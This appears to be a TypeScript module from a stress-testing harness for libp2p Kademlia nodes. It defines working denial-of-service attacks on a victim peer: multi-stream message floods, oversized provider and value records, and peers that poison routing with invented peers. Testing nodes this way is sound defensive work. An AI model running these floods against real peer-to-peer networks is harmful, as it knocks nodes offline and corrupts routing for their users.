/** Kademlia: questions and records without end, and answers that are lies. */
import { join } from '../../support/bytes.js'
import { guest, KADEMLIA, questionOf } from '../tools/guest.js'
import { Line } from '../tools/line.js'
import { address, field, idOf, inventedKey, kadMessage, kadPeer, KAD, random } from '../tools/protobuf.js'
import { often, pause, turn, atOnce, type Attack, type Context } from './attack.js'

/** The types by number. */
const TYPES = Object.keys(KAD) as (keyof typeof KAD)[]

/** Says this on so many streams of one line, as fast as it can, and reads the answers. */
async function flood(
  context: Context,
  streams: number,
  piece: (line: Line) => Uint8Array,
  count: number,
  first?: Line,
): Promise<void> {
  let line = first ?? (await Line.open(context))
  const all = Array.from({ length: streams }, () => line.stream(KADEMLIA))
  await context.start()
  await atOnce(context, streams, async (index) => {
    if (!all[index]!.isOpen) {
      // What was sent with the one for which it was reset.
      context.fate.refused('stream reset', count - 1)
      await pause(100)
      if (!line.isOpen) line = await Line.open(context)
      all[index] = line.stream(KADEMLIA)
    }
    await all[index]!.send(piece(line))
    context.fate.did(count)
    await turn()
  })
}

function times(amount: number, make: () => Uint8Array): Uint8Array {
  return join(...Array.from({ length: amount }, make))
}

const HOME = address('/ip4/127.0.0.1/tcp/9')

/** The content id of bytes as they are: the longer, the larger its record. */
function cid(size: number): Uint8Array {
  const length = size < 128 ? Uint8Array.of(size) : Uint8Array.of((size & 127) | 128, ...high(size >> 7))
  return join(Uint8Array.of(1, 0x55, 0), length, random(size))
}

function high(value: number): number[] {
  return value < 128 ? [value] : [(value & 127) | 128, ...high(value >> 7)]
}

/** The key of nobody as a record, which is valid, with so many bytes in a field that nobody knows. */
function keyRecord(padding: number): Uint8Array {
  const key = inventedKey()
  const name = join(Buffer.from('/pk/'), idOf(key))
  const value = padding === 0 ? key : join(key, field(15, new Uint8Array(padding)))
  return kadMessage({ type: 'putValue', key: name, record: join(field(1, name), field(2, value)) })
}

/** A peer that the victim asks, and that names this many others in each answer. */
async function liar(context: Context, amount: number): Promise<Line> {
  const closer = Array.from({ length: amount }, () => kadPeer(idOf(inventedKey()), [HOME]))
  return guest(context, {
    kad(message) {
      const { type, key } = questionOf(message)
      context.fate.did()
      return kadMessage({ type: TYPES[type] ?? 'ping', key, closer })
    },
  })
}

async function lie(context: Context, liars: number, amount: number): Promise<void> {
  await context.start()
  await Promise.all(Array.from({ length: liars }, () => liar(context, amount)))
  await context.over
}

/** Lookups come more often than they do by default, so that a short phase has some. */
const OFTEN = { discoveryInterval: 2_000 }

export const kad: Attack[] = [
  {
    name: 'kad-find-node',
    does: 'One peer asks for the peers closest to anything, on 32 streams, as fast as it can.',
    run: (context) => flood(context, 32, () => times(50, () => kadMessage({ type: 'findNode', key: random(32) })), 50),
  },
  {
    name: 'kad-get-providers',
    does: 'One peer names itself as provider of 20,000 things, and then asks for providers, on 32 streams, as fast as it can.',
    async run(context) {
      const line = await Line.open(context)
      const stream = line.stream(KADEMLIA)
      const self = kadPeer(line.host.peerId.toMultihash().bytes, [HOME])
      for (let at = 0; at < 200 && stream.isOpen; at++) {
        await stream.send(times(100, () => kadMessage({ type: 'addProvider', key: cid(32), providers: [self] })))
        await pause(5)
      }
      await flood(context, 32, () => times(20, () => kadMessage({ type: 'getProviders', key: cid(32) })), 20, line)
    },
  },
  {
    name: 'kad-get-value',
    does: 'One peer asks for values that nobody has, on 32 streams, as fast as it can.',
    run: (context) =>
      flood(
        context,
        32,
        () => times(50, () => kadMessage({ type: 'getValue', key: join(Buffer.from('/pk/'), random(34)) })),
        50,
      ),
  },
  {
    name: 'kad-ping',
    does: 'One peer sends pings of kad on 32 streams, as fast as it can.',
    run: (context) =>
      flood(context, 32, () => times(100, () => kadMessage({ type: 'ping', key: new Uint8Array() })), 100),
  },
  {
    name: 'kad-add-provider',
    does: 'One peer stores provider records with the victim, as fast as it can.',
    run: (context) => provide(context, 400, 50),
  },
  {
    name: 'kad-add-provider-large',
    does: 'One peer stores provider records whose content ids have 500 kB, as fast as it can.',
    run: (context) => provide(context, 500_000, 1),
  },
  {
    name: 'kad-provider-addresses',
    does: 'One peer stores a provider record with 20,000 addresses of its own, and others each second.',
    async run(context) {
      const line = await Line.open(context)
      const self = line.host.peerId.toMultihash().bytes
      const records = Array.from({ length: 5 }, (_, round) => {
        const host = (at: number) => `${40 + round}.${at >> 8}.${at & 255}.1`
        const addresses = Array.from({ length: 20_000 }, (__, at) => address(`/ip4/${host(at)}/tcp/4001`))
        return kadMessage({ type: 'addProvider', key: cid(32), providers: [kadPeer(self, addresses)] })
      })
      const stream = line.stream(KADEMLIA)
      await context.start()
      await often(context, 1, async (round) => {
        await stream.send(records[round % records.length]!)
        context.fate.did()
      })
    },
  },
  {
    name: 'kad-put-value',
    does: 'One peer stores public keys of nobody, as fast as it can.',
    run: (context) => flood(context, 8, () => times(50, () => keyRecord(0)), 50),
  },
  {
    name: 'kad-put-value-large',
    does: 'One peer stores public keys of nobody that are padded to 1 MB, as fast as it can.',
    run: (context) => flood(context, 4, () => keyRecord(1_000_000), 1),
  },
  {
    name: 'kad-liar-5000',
    does: 'One peer names 5,000 invented peers in each answer to a lookup.',
    config: OFTEN,
    run: (context) => lie(context, 1, 5_000),
  },
  {
    name: 'kad-liar-50000',
    does: 'One peer names 50,000 invented peers in each answer to a lookup.',
    config: OFTEN,
    run: (context) => lie(context, 1, 50_000),
  },
  {
    name: 'kad-liars',
    does: 'Ten peers name 1,000 invented peers each in each answer to a lookup.',
    harmless: 'of an answer 20 peers are taken, and their addresses last',
    config: OFTEN,
    run: (context) => lie(context, 10, 1_000),
  },
]

async function provide(context: Context, size: number, amount: number): Promise<void> {
  const piece = (line: Line): Uint8Array => {
    const self = kadPeer(line.host.peerId.toMultihash().bytes, [HOME])
    return times(amount, () => kadMessage({ type: 'addProvider', key: cid(size), providers: [self] }))
  }
  await flood(context, 1, piece, amount)
}
